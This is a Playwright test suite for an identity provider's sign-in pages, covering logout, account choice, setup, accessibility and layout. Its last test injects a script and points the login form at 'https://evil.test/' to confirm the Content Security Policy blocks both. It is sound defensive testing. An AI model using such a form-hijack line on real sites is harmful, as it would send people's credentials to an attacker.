"""Signing in as people do it: in Chromium, with scripts and without, narrow, dark, right to left, in several tabs."""

import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Literal, Never

import pytest
from playwright.sync_api import Page, expect
from sqlalchemy import delete, update

from idp.credentials import guesses
from idp.credentials.guesses import TooMany
from idp.credentials.hashing import TooBusy
from idp.login import transactions
from idp.login.demands import Demand
from idp.login.models import Transaction
from idp.organizations import branding
from idp.organizations.branding import Brand
from idp.platform import database
from idp.platform.errors import Refusal
from idp.sessions import browsers as known_browsers
from idp.users import first_run
from idp.users.models import Operator
from tests import databases
from tests.actors import GOOD
from tests.flows import browsers, people
from tests.flows.browsers import Look, Visitor, press
from tests.traces import OPERATOR

LOOKS = {
    "wide": Look(),
    "narrow and dark": Look(width=320, scheme="dark"),
    "right to left, narrow": Look(width=320, language="ar"),
    "right to left and dark": Look(scheme="dark", language="ar"),
}
SCRIPTS = pytest.mark.parametrize("look", [Look(), Look(scripts=False)], ids=["with scripts", "without scripts"])


@pytest.fixture(scope="module")
def visitor(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Visitor]:
    """Somebody with a browser, at a provider that has people."""
    with browsers.visitor(tmp_path_factory.mktemp("site"), people.build, rate_limits="off") as found:
        yield found


@pytest.fixture
def on_postgresql(pytestconfig: pytest.Config, tmp_path: Path, visitor: Visitor) -> Iterator[Visitor]:
    """The same somebody, at a provider on PostgreSQL."""
    databases.start_postgresql(pytestconfig)
    with (
        databases.empty("postgresql", tmp_path) as url,
        visitor.also_at(tmp_path, people.build, database_url=url) as there,
    ):
        yield there


def name(page: Page, username: str) -> None:
    """Say who is signing in."""
    page.fill("[name=username]", username)
    press(page, "#identifier-submit")
    expect(page.locator("body")).to_have_attribute("data-page", "password")


def give(page: Page, password: str = GOOD) -> None:
    """Give a password."""
    page.fill("#password", password)
    press(page, "#login-submit")


def sign_in(page: Page, visitor: Visitor, username: str, path: str = "/login") -> None:
    """Sign in as somebody, from `path` on."""
    page.goto(visitor.url + path)
    name(page, username)
    give(page)


def is_at(page: Page, step: str) -> None:
    """The page says that it is `step`."""
    expect(page.locator("body")).to_have_attribute("data-page", step)


@SCRIPTS
def test_somebody_signs_in_goes_wrong_once_and_signs_out(visitor: Visitor, look: Look) -> None:
    with visitor.visit("/", look) as page:
        expect(page.locator("h1")).to_have_text("Sign in")
        assert page.evaluate("document.activeElement.id") == "username" if look.scripts else True
        name(page, "olivia@northwind.test")
        give(page, "wrong")
        expect(page.get_by_role("alert")).to_be_focused()
        expect(page).to_have_title(re.compile("^Error: Enter your password"))
        page.get_by_role("link", name="Enter the password again").click()
        expect(page.locator("#password")).to_be_focused()
        give(page)
        expect(page.locator("h1")).to_have_text("Olivia Lund")
        page.get_by_role("link", name="Sign out").click()
        expect(page.locator("h1")).to_have_text("Sign out")
        press(page, "#logout-cancel")
        is_at(page, "me")
        page.goto(f"{visitor.url}/logout")
        press(page, "#logout-confirm")
        expect(page.locator("h1")).to_have_text("You are signed out")
        page.goto(f"{visitor.url}/me")
        is_at(page, "login")


def test_on_postgresql_it_is_the_same_story(on_postgresql: Visitor) -> None:
    with on_postgresql.visit("/select") as page:
        name(page, "mona@northwind.test")
        give(page, "wrong")
        expect(page.get_by_role("alert")).to_be_focused()
        give(page)
        is_at(page, "select")
        page.get_by_role("radio", name="Shop 007").check()
        press(page, "#context-submit")
        assert page.url.endswith("/me?context=acct_hundreds_s007")
        page.goto(f"{on_postgresql.url}/logout")
        press(page, "#logout-confirm")
        is_at(page, "logged-out")


@pytest.mark.rule("LGO-06")
@SCRIPTS
def test_going_back_after_signing_out_shows_nothing_of_anybody(visitor: Visitor, look: Look) -> None:
    with visitor.visit("/login", look) as page:
        sign_in(page, visitor, "olivia")
        page.goto(f"{visitor.url}/logout")
        press(page, "#logout-confirm")
        is_at(page, "logged-out")
        for _ in range(3):
            page.go_back()
            expect(page.get_by_text("Olivia")).to_have_count(0)


@SCRIPTS
def test_back_and_reload_are_safe(visitor: Visitor, look: Look) -> None:
    with visitor.visit("/login", look) as page:
        name(page, "olivia")
        page.reload()
        is_at(page, "password")
        page.go_back()
        is_at(page, "login")
        expect(page.locator("[name=username]")).to_have_value("olivia")
        name(page, "olivia")
        give(page, "wrong")
        page.reload()
        expect(page.get_by_role("alert")).to_be_visible()
        give(page)
        is_at(page, "me")
        page.go_back()
        is_at(page, "me")
        page.reload()
        is_at(page, "me")


@SCRIPTS
def test_two_tabs_do_not_disturb_each_other(visitor: Visitor, look: Look) -> None:
    with visitor.visit("/login", look) as one:
        two = one.context.new_page()
        two.goto(f"{visitor.url}/login")
        name(one, "olivia")
        name(two, "bob")
        give(one)
        expect(one.locator("h1")).to_have_text("Olivia Lund")
        give(two)
        expect(two.locator("h1")).to_have_text("Bob")


@pytest.mark.rule("SES-08", "SES-05")
@SCRIPTS
def test_two_people_use_one_browser_and_are_asked_who_it_is(visitor: Visitor, look: Look) -> None:
    with visitor.visit("/login", look) as page:
        sign_in(page, visitor, "olivia")
        page.goto(f"{visitor.url}/login")
        expect(page.get_by_role("button", name="Continue as Olivia Lund")).to_be_visible()
        name(page, "bob")
        give(page)
        expect(page.locator("h1")).to_have_text("Bob")
        expect(page.get_by_text("Olivia")).to_have_count(0)
        page.goto(f"{visitor.url}/login")
        page.get_by_role("button", name="Continue as Olivia Lund").click()
        expect(page.locator("h1")).to_have_text("Olivia Lund")
        expect(page.get_by_text("Bob")).to_have_count(0)
        page.goto(f"{visitor.url}/logout")
        expect(page.locator(".people li")).to_have_count(2)
        press(page, "#logout-confirm")
        page.goto(f"{visitor.url}/login")
        expect(page.get_by_role("button", name="Continue as")).to_have_count(0)


@SCRIPTS
def test_a_sign_in_of_another_browser_leads_to_one_of_our_own(visitor: Visitor, look: Look) -> None:
    with visitor.visit("/login") as other:
        planted = other.url
    with visitor.visit("/login", look) as page:
        page.goto(planted)
        expect(page.locator("body")).to_have_attribute("data-error", "transaction_expired")
        page.get_by_role("link", name="Start again").click()
        is_at(page, "login")


@SCRIPTS
def test_a_sign_in_that_ran_out_says_so_and_leads_on(visitor: Visitor, look: Look) -> None:
    with visitor.visit("/login?return_to=/me?context=x", look) as page:
        name(page, "olivia")
        with visitor.app.app_context(), database.writing():
            database.session().execute(update(Transaction).values(expires_at=0))
        give(page)
        expect(page.locator("h1")).to_have_text("Something went wrong")
        expect(page.get_by_text("This sign-in has ended.")).to_be_visible()
        page.get_by_role("link", name="Start again").click()
        name(page, "olivia")
        give(page)
        assert page.url.endswith("/me?context=x")


# Choosing


@SCRIPTS
@pytest.mark.parametrize(
    ("username", "choices", "chosen"),
    [("una", 1, "EU shop"), ("tom", 3, "US shop"), ("olivia", 4, "All of Northwind")],
)
def test_somebody_chooses_where_to_work(visitor: Visitor, look: Look, username: str, choices: int, chosen: str) -> None:
    with visitor.visit("/login", look) as page:
        sign_in(page, visitor, username, "/select")
        page.goto(f"{visitor.url}/select")
        expect(page.locator("h1")).to_have_text("Choose where to work")
        expect(page.locator("[name=context]")).to_have_count(choices)
        expect(page.locator("[name=q]")).to_have_count(0)
        page.get_by_role("radio", name=chosen).check()
        press(page, "#context-submit")
        is_at(page, "me")
        expect(page.get_by_role("status")).to_contain_text("You chose")
        expect(page.get_by_role("status")).to_contain_text(chosen.removeprefix("All of "))


@SCRIPTS
def test_one_of_three_hundred_accounts_is_found_by_its_name_and_by_leafing(visitor: Visitor, look: Look) -> None:
    with visitor.visit("/login", look) as page:
        sign_in(page, visitor, "mona")
        page.goto(f"{visitor.url}/select")
        expect(page.locator("[name=context]")).to_have_count(51)
        page.fill("[name=q]", "SHOP 29")
        page.get_by_role("button", name="Search").click()
        expect(page.locator("[name=context]")).to_have_count(10)
        page.get_by_role("link", name="Show everything").click()
        page.get_by_role("link", name="More accounts of").click()
        expect(page.locator("[name=context]")).to_have_count(50)
        page.get_by_role("radio", name="Shop 077").check()
        press(page, "#context-submit")
        assert page.url.endswith("/me?context=acct_hundreds_s077")
        expect(page.get_by_role("status")).to_have_text("You chose Shop 077 of Hundreds & Sons.")


@SCRIPTS
def test_whoever_has_no_role_is_told_whom_to_ask(visitor: Visitor, look: Look) -> None:
    with visitor.visit("/login", look) as page:
        sign_in(page, visitor, "nick")
        page.goto(f"{visitor.url}/select")
        expect(page.get_by_text("Ask the administrator who invited you")).to_be_visible()
        page.get_by_role("link", name="Go to your own page").click()
        is_at(page, "me")


# The password field


@pytest.mark.rule("PWD-08")
def test_a_password_can_be_read_and_pasted_and_is_hidden_again_when_sent(visitor: Visitor) -> None:
    with visitor.visit("/login") as page:
        name(page, "olivia")
        page.evaluate("document.getElementById('password').focus()")
        page.keyboard.insert_text(GOOD)
        page.get_by_role("button", name="Show").click()
        expect(page.locator("#password")).to_have_attribute("type", "text")
        expect(page.locator("#password")).to_have_value(GOOD)
        expect(page.locator("#password-show")).to_have_attribute("aria-pressed", "true")
        page.get_by_role("button", name="Hide").click()
        expect(page.locator("#password")).to_have_attribute("type", "password")


@pytest.mark.rule("PWD-08")
def test_without_scripts_nothing_is_offered_that_does_not_work(visitor: Visitor) -> None:
    with visitor.visit("/login", Look(scripts=False)) as page:
        name(page, "olivia")
        expect(page.locator("#password-show")).to_be_hidden()


# Looks


@pytest.mark.parametrize("look", LOOKS.values(), ids=LOOKS)
def test_everybody_can_read_and_use_every_page(visitor: Visitor, look: Look, monkeypatch: pytest.MonkeyPatch) -> None:
    with visitor.visit("/login", look) as page:
        for _ in every_page(page, visitor, monkeypatch):
            assert browsers.accessibility_problems(page) == []
            fits(page)


def test_longer_words_and_wider_spacing_still_fit(visitor: Visitor, monkeypatch: pytest.MonkeyPatch) -> None:
    with visitor.visit("/login?ui_locales=xx-long", Look(width=320)) as page:
        for _ in every_page(page, visitor, monkeypatch):
            page.evaluate(
                """() => { const sheet = new CSSStyleSheet();
                sheet.replaceSync('* {line-height: 1.5 !important; letter-spacing: .12em !important;'
                    + 'word-spacing: .16em !important} p {margin-bottom: 2em !important}');
                document.adoptedStyleSheets = [sheet]; }"""
            )
            fits(page)


def every_page(page: Page, visitor: Visitor, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    """Lead `page` over every page of signing in, with what people do wrong and with names that are long; its step."""

    def leads_to(step: str) -> str:
        is_at(page, step)
        page.evaluate("document.querySelectorAll('main details').forEach((one) => one.open = true)")
        return step

    yield leads_to("login")
    page.evaluate("document.querySelector('#username').required = false")
    press(page, "#identifier-submit")
    yield leads_to("login")
    name(page, "mona@northwind.test")
    yield leads_to("password")
    give(page, "wrong")
    yield leads_to("password")
    for refusal in (TooMany(125), TooBusy()):
        with monkeypatch.context() as held_back:
            held_back.setattr(guesses, "reserve", refuse(refusal))
            give(page)
            yield leads_to("password")
    give(page)
    yield leads_to("me")
    page.goto(f"{visitor.url}/select")
    yield leads_to("select")
    page.fill("#q", "none")
    page.keyboard.press("Enter")
    page.wait_for_url("**q=none")
    yield leads_to("select")
    for path, step in (("/me?context=acct_hundreds_s277", "me"), ("/login", "login"), ("/logout", "logout"),
                       ("/login?txn=txn_unknown", "error")):  # fmt: skip
        page.goto(visitor.url + path)
        yield leads_to(step)
    page.goto(visitor.url + asked_for(page, visitor))
    yield leads_to("login")
    name(page, people.LONG)
    yield leads_to("password")
    page.goto(f"{visitor.url}/logout")
    press(page, "#logout-confirm")
    yield leads_to("logged-out")
    for username, step in (("nick", "select"), ("eve", "select"), ("tom", "select")):
        sign_in(page, visitor, username)
        is_at(page, "me")
        page.goto(f"{visitor.url}/select")
        yield leads_to(step)
    page.goto(visitor.url + set_up_anew(visitor))
    yield leads_to("setup")
    set_up(page, "admin")
    yield leads_to("setup")


def refuse(refusal: Refusal) -> Callable[..., Never]:
    def reserve(*_: object, **__: object) -> Never:
        raise refusal

    return reserve


def asked_for(page: Page, visitor: Visitor, *named: str) -> str:
    """Where somebody signs in for an application with a long name, and for these organizations."""
    (cookie,) = [one["value"] for one in page.context.cookies() if one["name"] == "idp_browser"]
    with visitor.app.app_context(), database.writing():
        known = known_browsers.recognise(cookie)
        assert known
        demand = Demand(context="any", login_hint=people.LONG, organizations=named or None)
        return f"/login?txn={transactions.begin(known.id, demand, return_to='/me', application=people.LONG).id}"


def test_in_the_hue_of_any_organization_everything_can_be_read(visitor: Visitor) -> None:
    with visitor.visit("/login") as page:
        buttons = set()
        for hue in (30, 110, 200, 330):
            with visitor.app.app_context(), database.writing():
                branding.change("org_northwind", Brand(hue), by=OPERATOR)
            page.goto(visitor.url + asked_for(page, visitor, "org_northwind"))
            expect(page.locator(".brand")).to_contain_text("Northwind")
            for scheme in SCHEMES:
                page.emulate_media(color_scheme=scheme)
                assert browsers.accessibility_problems(page) == []
                buttons.add(
                    page.evaluate("getComputedStyle(document.querySelector('#identifier-submit')).backgroundColor")
                )
        assert len(buttons) == 8


SCHEMES: tuple[Literal["light", "dark"], ...] = ("light", "dark")


def fits(page: Page) -> None:
    """Nothing is cut off, and everything that is pressed is large enough."""
    assert browsers.overflow(page) == 0
    assert page.evaluate(TOO_SMALL) == []


TOO_SMALL = """() => [...document.querySelectorAll('button, summary, main input, a.btn')]
    .filter((one) => one.checkVisibility())
    .filter((one) => one.getBoundingClientRect().height < (['checkbox', 'radio'].includes(one.type) ? 20 : 44))
    .map((one) => one.outerHTML)"""


# Setting up


def set_up_anew(visitor: Visitor) -> str:
    """The link to `/setup`, as if nobody had ever run this installation."""
    with visitor.app.app_context(), database.writing():
        database.session().execute(delete(Operator))
        return f"/setup?token={first_run.open_door(by=OPERATOR).token}"


def set_up(page: Page, username: str, password: str = GOOD) -> None:
    """Fill the form in, and send it."""
    page.fill("#username", username)
    page.fill("#email", f"{username}@northwind.test")
    page.fill("#password", password)
    press(page, "#setup-submit")


@pytest.mark.rule("API-08")
@SCRIPTS
def test_the_first_operator_sets_up_goes_wrong_and_signs_in(visitor: Visitor, look: Look) -> None:
    username = f"first-{'with' if look.scripts else 'without'}"
    with visitor.visit(link := set_up_anew(visitor), look) as page:
        set_up(page, username, "too short")
        expect(page.get_by_role("alert")).to_be_focused()
        page.get_by_role("alert").get_by_role("link").click()
        expect(page.locator("#password")).to_be_focused()
        expect(page.locator("#username")).to_have_value(username)
        set_up(page, username)
        is_at(page, "login")
        expect(page.locator("[name=username]")).to_have_value(username)
        press(page, "#identifier-submit")
        give(page)
        expect(page.locator("h1")).to_have_text(username)
        page.goto(visitor.url + link)
        expect(page.locator("body")).to_have_attribute("data-error", "setup_closed")


# Names


@pytest.mark.rule("API-04")
@SCRIPTS
def test_names_are_shown_as_text(visitor: Visitor, look: Look) -> None:
    with visitor.visit("/login", look) as page:
        page.on("dialog", lambda dialog: pytest.fail(dialog.message))
        sign_in(page, visitor, "eve")
        for path in ("/me", "/select", "/login", "/logout", f"/login?login_hint={people.EVIL}"):
            page.goto(visitor.url + path)
            expect(page.locator("img")).to_have_count(0)
        page.goto(f"{visitor.url}/select")
        expect(page.get_by_text(people.EVIL, exact=True).first).to_be_visible()


# Policy


@pytest.mark.rule("HTT-01")
def test_a_form_cannot_be_sent_elsewhere_and_a_script_of_others_does_not_run(visitor: Visitor) -> None:
    with visitor.visit("/login", complaint="Content Security Policy") as page:
        page.evaluate("document.body.append(Object.assign(document.createElement('script'), {text: 'window.ran = 1'}))")
        assert page.evaluate("window.ran") is None
        before = page.url
        page.evaluate("document.forms[0].action = 'https://evil.test/'")
        page.fill("[name=username]", "olivia")
        with page.expect_event("console", lambda said: "form-action" in said.text):
            page.evaluate("document.forms[0].requestSubmit()")
        assert page.url == before
